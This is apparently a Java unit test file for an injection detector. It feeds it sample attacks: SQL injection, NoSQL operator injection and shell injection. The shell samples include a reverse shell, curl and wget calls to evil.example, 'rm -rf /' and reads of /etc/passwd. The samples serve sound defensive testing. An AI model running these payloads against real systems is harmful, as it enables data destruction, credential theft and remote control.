package dev.functionregistry.processor.json;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assumptions.assumeThat;

import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Assertions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What is taken for an attack, and above all what is not. */
class InjectionPatternsTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "' OR '1'='1",
                "' or 1=1--",
                "admin' --",
                "admin'/*",
                "1 OR 1=1",
                "1) or (1=1",
                "x' AND email LIKE email",
                "\" or \"a\"=\"a",
                "' OR true--",
                "-1' UNION SELECT username, password FROM users--",
                "1 UNION ALL SELECT NULL,NULL,version()",
                "1/**/UNION/**/SELECT/**/1,2,3",
                "'; DROP TABLE users; --",
                "Robert'); DROP TABLE Students;--",
                "1; DELETE FROM users WHERE 1",
                "1;UPDATE users SET role='admin'",
                "1; INSERT INTO users (name) VALUES ('x')",
                "' AND SLEEP(5)",
                "1 AND BENCHMARK(5000000,MD5(1))",
                "'; WAITFOR DELAY '0:0:5'--",
                "'; EXEC master..xp_cmdshell 'dir'",
                "' UNION SELECT load_file('/etc/passwd')",
                "x' INTO OUTFILE '/tmp/x'",
                "1 union select table_name from information_schema.tables"
            })
    void sql(String text) {
        assertThat(InjectionPatterns.kindsIn(text)).contains("sql");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "{\"$ne\": null}",
                "{'$gt': ''}",
                "{ $where: 'sleep(100)' }",
                "password[$ne]=1",
                "' || '1'=='1",
                "' && 1==1 && '",
                "'; return true; var x='"
            })
    void nosql(String text) {
        assertThat(InjectionPatterns.kindsIn(text)).contains("nosql");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "x; cat /etc/passwd",
                "8.8.8.8 && whoami",
                "a | nc 10.0.0.1 4444 -e /bin/sh",
                "$(curl http://evil.example/x)",
                "`whoami`",
                "x$(id)",
                "file.txt; rm -rf /",
                "; ls",
                "|| wget https://evil.example/x",
                "a\nrm -rf ~",
                "& ping -c 10 127.0.0.1 &",
                "x; sleep 10",
                "() { :;}; /bin/bash -c 'id'",
                "bash -i >& /dev/tcp/10.0.0.1/8080",
                "; python3 -c 'import os'",
                "| cmd.exe /c dir",
                "cat${IFS}/etc/passwd"
            })
    void shell(String text) {
        assertThat(InjectionPatterns.kindsIn(text)).contains("shell");
    }

    @Test
    void namesOfOperators() {
        assertThat(Stream.of("$where", "$ne", "$gt", "$or", "$expr")).allMatch(InjectionPatterns::isOperator);
        assertThat(Stream.of("", "$", "where", "$ref", "$schema", "$id", "price$", "$price", "$Ne"))
                .noneMatch(InjectionPatterns::isOperator);
    }

    static List<String> sentences() throws IOException {
        try (var in = InjectionPatternsTest.class.getResourceAsStream("/ordinary-text.txt")) {
            return new String(in.readAllBytes(), java.nio.charset.StandardCharsets.UTF_8)
                    .lines()
                    .filter(line -> !line.isBlank() && !line.startsWith("##"))
                    .toList();
        }
    }

    /** Sentences full of quotes, keywords, semicolons and shell words, none of them an attack. */
    @Test
    void ordinaryTextIsLeftAlone() throws IOException {
        assertThat(sentences())
                .hasSizeGreaterThan(100)
                .allSatisfy(line ->
                        assertThat(InjectionPatterns.kindsIn(line)).as(line).isEmpty());
    }

    /** Prose of this project's own pages, paragraph by paragraph, with its code. */
    @Test
    void technicalProseIsLeftAlone() throws IOException {
        var paragraphs = new ArrayList<String>();
        try (var pages = Files.walk(Path.of("..", "docs"))) {
            for (var page : pages.filter(p -> p.toString().endsWith(".md")).toList()) {
                paragraphs.addAll(List.of(Files.readString(page).split("\n\n")));
            }
        }
        var hits = paragraphs.stream()
                .filter(text -> !InjectionPatterns.kindsIn(text).isEmpty())
                .filter(text -> !text.contains("DROP TABLE"))
                .toList();
        assertThat(paragraphs).hasSizeGreaterThan(200);
        assertThat(hits).as("of %d paragraphs", paragraphs.size()).hasSizeLessThanOrEqualTo(paragraphs.size() / 100);
    }

    /** The naughty strings hold attacks of these kinds and five hundred others; only attacks are found. */
    @Test
    void ofTheNaughtyStringsOnlyAttacksAreFound() throws IOException {
        var file = Corpora.folder("naughty-strings").resolve("blns.json");
        assumeThat(file).as("the corpus is not here").exists();
        var found = new ArrayList<String>();
        int all = 0;
        for (var node : new ObjectMapper().readTree(file.toFile())) {
            all++;
            if (!InjectionPatterns.kindsIn(node.textValue()).isEmpty()) {
                found.add(node.textValue());
            }
        }
        assertThat(all).isGreaterThan(500);
        assertThat(found).isNotEmpty().allMatch(InjectionPatternsTest::isAttack);
    }

    private static boolean isAttack(String naughty) {
        return Stream.of("DROP TABLE", "OR 1=1", "' OR ", "touch /tmp/blns", "xp_cmdshell", "ls -al", "IFS", "() {")
                .anyMatch(naughty::contains);
    }

    /** The worst texts that the patterns' pieces suggest take milliseconds, not minutes. */
    @Test
    void noTextTakesLong() {
        var pieces = List.of(
                "' or ", "union ", "1 or ((((", ";  ", "select /**", "$(", "' || '", "\n", "; delete from ", "a' ");
        Assertions.assertTimeout(
                Duration.ofSeconds(10),
                () -> pieces.forEach(piece ->
                        InjectionPatterns.kindsIn(piece.repeat(InjectionPatterns.MAX_CHARACTERS / piece.length()))));
    }
}
